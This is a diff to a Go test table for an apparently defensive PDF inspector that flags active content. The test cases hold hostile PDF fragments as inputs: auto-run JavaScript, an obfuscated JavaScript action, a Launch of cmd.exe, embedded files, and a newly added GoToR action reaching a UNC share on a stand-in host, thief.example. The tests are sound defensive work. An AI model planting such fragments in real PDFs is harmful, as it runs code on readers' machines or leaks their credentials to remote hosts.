@@ -91,6 +91,7 @@ func TestInspect(t *testing.T) {
 		"a script":                         {pdf: pdfOf("", "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", twoPages, page, page), err: document.ErrActivePDF},
 		"a script in disguise":             {pdf: pdfOf("", "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScr#69pt>>>>", twoPages, page, page), err: document.ErrActivePDF},
 		"a program":                        {pdf: pdfOf("", catalog, twoPages, page, page, "<</S/Launch/F(cmd.exe)>>"), err: document.ErrActivePDF},
+		"a file of another machine":        {pdf: pdfOf("", `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(\\\\thief.example\\share\\x.pdf)/D[0/Fit]>>>>`, twoPages, page, page), err: document.ErrActivePDF},
 		"a file in it":                     {pdf: pdfOf("", catalog, twoPages, page, page, "<</Type/Filespec/EF<</F 6 0 R>>>>"), err: document.ErrActivePDF},
 		"a packed script":                  {pdf: pdfOf("", catalog, twoPages, page, page, packed("", true, "<</A 1>>", "<</S/JavaScript>>")), err: document.ErrActivePDF},
 		"a packed script, of no type":      {pdf: pdfOf("", catalog, twoPages, page, page, strings.Replace(packed("", true, "<</S/JavaScript>>"), "/Type/ObjStm", "", 1)), err: document.ErrActivePDF},
